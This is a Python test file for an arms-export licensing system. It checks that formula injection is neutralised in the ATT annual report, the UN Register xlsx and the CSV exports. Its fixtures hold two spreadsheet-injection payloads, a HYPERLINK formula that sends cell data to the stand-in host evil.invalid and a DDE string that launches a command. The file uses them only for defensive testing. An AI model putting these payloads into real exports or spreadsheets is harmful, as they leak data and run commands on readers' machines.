"""Issue 13, attack 4: an item described as ``=HYPERLINK(...)`` became a live formula in the
ATT annual report and the UN Register xlsx, and appeared raw in the CSV exports. Text is
written as text now (xlsx string cells; CSV cells starting with = + - @ tab or CR escaped)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).resolve().parent))
from register_helpers import Api, application, to_assessed, version

from openatt.text_cells import FORMULA_STARTS, csv_cell

PAYLOAD = '=HYPERLINK("http://evil.invalid/?x="&A1,"assault rifles")'


@pytest.fixture
def licensed(api: Api) -> Api:
    items = [
        {"description": PAYLOAD, "category": "VIII", "control_entry": "ML1", "quantity": 10},
        {"description": "@SUM(1+1)*cmd|' /C calc'!A0", "category": "VIII", "quantity": 5},
    ]
    app_id = to_assessed(api, application(items=items))
    body = {"version": version(api, app_id), "outcome": "approved", "reasons": "acceptable"}
    decided = api.post(f"/applications/{app_id}/decide", "officer", body).json()
    if decided["status"] == "pending":
        api.post(
            f"/applications/{app_id}/countersign",
            "officer2",
            {"version": version(api, app_id), "agree": True},
        )
    until = (dt.date.today() + dt.timedelta(days=365)).isoformat()
    issued = api.post(f"/applications/{app_id}/issue", "officer", {"valid_until": until})
    assert issued.status_code == 201, issued.text
    for index, quantity in ((0, 10), (1, 5)):  # the UN Register return counts deliveries
        body = {"item": index, "quantity": quantity, "shipped_on": dt.date.today().isoformat()}
        shipped = api.post(f"/applications/{app_id}/shipments", "officer", body)
        assert shipped.status_code == 201, shipped.text
    return api


def _report(api: Api, kind: str, fmt: str) -> bytes:
    body = {"year": dt.date.today().year, "format": fmt, "reporting_state": "GBR"}
    response = api.post(f"/reports/{kind}", "officer", body)
    assert response.status_code == 200, response.text
    return bytes(response.content)


def _text_cells(content: bytes) -> list[tuple[str, object]]:
    book = load_workbook(io.BytesIO(content))
    return [
        (cell.data_type, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "@"))
    ]


@pytest.mark.parametrize("kind", ["att-annual", "unroca"])
def test_a_formula_in_an_item_description_stays_text_in_the_xlsx(licensed: Api, kind: str) -> None:
    cells = _text_cells(_report(licensed, kind, "xlsx"))
    assert any(PAYLOAD in str(value) for _, value in cells), cells
    assert {data_type for data_type, _ in cells} == {"s"}  # none is a formula ("f")


def test_a_formula_in_an_item_description_is_escaped_in_the_csv_report(licensed: Api) -> None:
    rows = list(csv.reader(io.StringIO(_report(licensed, "att-annual", "csv").decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_the_register_export_escapes_formulas(licensed: Api) -> None:
    response = licensed.get("/register/export?format=csv", "officer")
    assert response.status_code == 200, response.text
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells) or "HYPERLINK" not in response.text
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_escaped(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(-5) == -5 and csv_cell("5-1") == "5-1"
